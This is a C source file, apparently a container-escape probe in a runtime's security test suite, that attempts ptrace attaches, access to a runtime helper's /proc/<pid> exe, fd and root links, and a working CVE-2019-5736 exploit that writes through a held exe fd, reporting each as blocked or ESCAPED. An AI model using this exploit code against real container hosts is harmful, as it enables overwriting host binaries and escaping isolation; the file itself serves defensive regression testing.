/*
 * Attacks on other processes the container can see: ptrace, and the /proc/<pid> links of a
 * process that belongs to the runtime (its exe, its fds, its root).
 *
 *   process-attacks ptrace-all
 *       PTRACE_ATTACH to every other process in /proc; one line per process, the detail names
 *       its command, uid and effective capabilities so the test can judge each.
 *   process-attacks reach <pid>
 *       /proc/<pid>/exe opened for writing, /proc/<pid>/fd/N opened, /proc/<pid>/root walked.
 *   process-attacks exe-watch <dir> <seconds>
 *       CVE-2019-5736: waits for a process whose exe is the runtime's helper, keeps an fd of it,
 *       tries to write through it while the process runs and after it exits. Writes
 *       <dir>/holding once it has the fd and <dir>/result (the report lines, renamed into
 *       place) when done.
 */
#include "probe.h"
#include <dirent.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>

static void read_status_field(pid_t pid, const char *field, char *out, size_t len) {
  char path[64], line[256];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  out[0] = '\0';
  FILE *f = fopen(path, "re");
  if (!f) return;
  size_t flen = strlen(field);
  while (fgets(line, sizeof line, f)) {
    if (strncmp(line, field, flen) == 0 && line[flen] == ':') {
      char *v = line + flen + 1;
      while (*v == ' ' || *v == '\t') v++;
      v[strcspn(v, "\n")] = '\0';
      snprintf(out, len, "%s", v);
      break;
    }
  }
  fclose(f);
}

static void ptrace_all(void) {
  DIR *d = opendir("/proc");
  struct dirent *e;
  pid_t self = getpid();
  while (d && (e = readdir(d))) {
    pid_t pid = atoi(e->d_name);
    if (pid <= 0 || pid == self) continue;
    char name[64], uid[64], caps[64], attack[96];
    read_status_field(pid, "Name", name, sizeof name);
    read_status_field(pid, "Uid", uid, sizeof uid);
    read_status_field(pid, "CapEff", caps, sizeof caps);
    uid[strcspn(uid, " \t")] = '\0';
    snprintf(attack, sizeof attack, "ptrace pid %d", pid);
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
      report(attack, is_denial(errno) ? "blocked" : "ESCAPED", errno, "comm=%s uid=%s capeff=%s", name, uid, caps);
      continue;
    }
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    /* the test judges: attaching to a process with the tracer's own credentials is what the
     * kernel allows and docker's profile permits */
    report(attack, "attached", 0, "comm=%s uid=%s capeff=%s", name, uid, caps);
  }
  if (d) closedir(d);
}

static void overwrite_exe(pid_t pid) {
  char path[128], attack[96];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  snprintf(attack, sizeof attack, "open the helper's /proc/<pid>/exe for writing");
  if (fd >= 0) {
    ssize_t n = write(fd, "pwned", 5);
    int err = errno;
    close(fd);
    report(attack, n > 0 ? "ESCAPED" : "blocked", n > 0 ? 0 : err, "opened for writing; write %s", n > 0 ? "succeeded" : "refused");
  } else {
    report(attack, is_denial(errno) || errno == ETXTBSY ? "blocked" : "ESCAPED", errno, "%s", path);
  }
}

/* The runtime's process must show the container nothing: its fds would be the runtime's
 * internals (sync socket, exec fifo), its root the host's before pivot_root. */
static void reach(pid_t pid) {
  char path[128], attack[96];
  overwrite_exe(pid);
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  snprintf(attack, sizeof attack, "open the helper's /proc/<pid>/fd/N");
  DIR *d = opendir(path);
  if (!d) {
    report(attack, is_denial(errno) ? "blocked" : "ESCAPED", errno, "%s", path);
  } else {
    char got[512] = "";
    int outside = 0, count = 0, last_err = 0;
    struct dirent *e;
    while ((e = readdir(d))) {
      if (e->d_name[0] == '.') continue;
      char fdpath[300];
      snprintf(fdpath, sizeof fdpath, "/proc/%d/fd/%s", pid, e->d_name);
      int f = open(fdpath, O_PATH | O_CLOEXEC);
      if (f < 0) {
        last_err = errno;
        continue;
      }
      count++;
      struct stat st;
      if (fstat(f, &st) == 0 && S_ISDIR(st.st_mode) && is_outside_root(f)) outside = 1;
      char link[128] = "";
      ssize_t n = readlink(fdpath, link, sizeof link - 1);
      if (n > 0) link[n] = '\0';
      size_t len = strlen(got);
      snprintf(got + len, sizeof got - len, "%s%s->%s", len ? " " : "", e->d_name, link);
      close(f);
    }
    closedir(d);
    if (count == 0) report(attack, last_err == 0 || is_denial(last_err) ? "blocked" : "ESCAPED", last_err, "listed, but no fd could be opened");
    else report(attack, "ESCAPED", 0, "opened %d fds%s: %s", count, outside ? ", one a directory outside the root" : "", got);
  }

  snprintf(path, sizeof path, "/proc/%d/root", pid);
  snprintf(attack, sizeof attack, "reach outside through the helper's /proc/<pid>/root");
  int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (fd < 0) {
    report(attack, is_denial(errno) ? "blocked" : "ESCAPED", errno, "%s", path);
  } else {
    report(attack, is_outside_root(fd) ? "ESCAPED" : "contained", 0, "%s", path);
    close(fd);
  }
}

static int exe_is_helper(pid_t pid) {
  char path[64], link[256];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t n = readlink(path, link, sizeof link - 1);
  if (n <= 0) return 0;
  link[n] = '\0';
  return strstr(link, "berth-helper") != NULL;
}

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static int write_through(int fd) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int w = open(path, O_WRONLY | O_CLOEXEC);
  if (w < 0) return -errno;
  ssize_t n = write(w, "pwned", 5);
  int err = errno;
  close(w);
  return n > 0 ? 0 : -err;
}

/* CVE-2019-5736, as published: keep an O_PATH fd of the runtime's exe and, once the runtime
 * process is gone and the binary is no longer busy, reopen it for writing through
 * /proc/self/fd. With runc that wrote the host's runc binary. Helper processes whose exe cannot
 * even be opened (the runtime's own, still privileged or not dumpable) are reported and the
 * watch goes on for one that can. */
static void exe_watch(const char *dir, double seconds) {
  char holding[256], partial[256];
  snprintf(holding, sizeof holding, "%s/holding", dir);
  snprintf(partial, sizeof partial, "%s/result.partial", dir);
  if (!freopen(partial, "w", stdout)) return;
  double end = now_s() + seconds;
  pid_t self = getpid(), victim = 0, seen[64];
  int nseen = 0, fd = -1;
  while (!victim && now_s() < end) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d)) && !victim) {
      pid_t pid = atoi(e->d_name);
      if (pid <= 0 || pid == self || !exe_is_helper(pid)) continue;
      int known = 0;
      for (int i = 0; i < nseen; i++) known |= seen[i] == pid;
      if (known) continue;
      if (nseen < 64) seen[nseen++] = pid;
      char exe[64];
      snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
      fd = open(exe, O_PATH | O_CLOEXEC);
      if (fd < 0) {
        report("hold the exe of the runtime's exec process", is_denial(errno) ? "blocked" : "ESCAPED", errno, "O_PATH open of its /proc/<pid>/exe");
        continue;
      }
      victim = pid;
    }
    if (d) closedir(d);
    usleep(200);
  }
  if (!victim) {
    report("overwrite the helper (CVE-2019-5736)", "absent", 0, "no helper process whose exe could be held appeared in %.0f s", seconds);
    return;
  }
  overwrite_exe(victim);
  int h = open(holding, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
  if (h >= 0) close(h);
  int last = 0, wrote = 0;
  while (now_s() < end) {
    int r = write_through(fd);
    if (r == 0) {
      wrote = 1;
      break;
    }
    last = -r;
    if (kill(victim, 0) < 0 && errno == ESRCH) {
      /* once more after the process is gone: the binary is no longer busy */
      r = write_through(fd);
      if (r == 0) wrote = 1;
      else last = -r;
      break;
    }
    usleep(2000);
  }
  if (wrote) report("overwrite the helper (CVE-2019-5736)", "ESCAPED", 0, "wrote through the helper's exe");
  else report("overwrite the helper (CVE-2019-5736)", "blocked", last, "reopening the held exe for writing failed while the process ran and after it exited");
  close(fd);
}

int main(int argc, char **argv) {
  if (argc >= 2 && strcmp(argv[1], "ptrace-all") == 0) {
    ptrace_all();
    return 0;
  }
  if (argc == 3 && strcmp(argv[1], "reach") == 0) {
    reach(atoi(argv[2]));
    return 0;
  }
  if (argc == 4 && strcmp(argv[1], "exe-watch") == 0) {
    exe_watch(argv[2], atof(argv[3]));
    fflush(stdout);
    char partial[256], result[256];
    snprintf(partial, sizeof partial, "%s/result.partial", argv[2]);
    snprintf(result, sizeof result, "%s/result", argv[2]);
    return rename(partial, result) < 0;
  }
  fprintf(stderr, "usage: process-attacks ptrace-all | reach <pid> | exe-watch <dir> <seconds>\n");
  return 2;
}
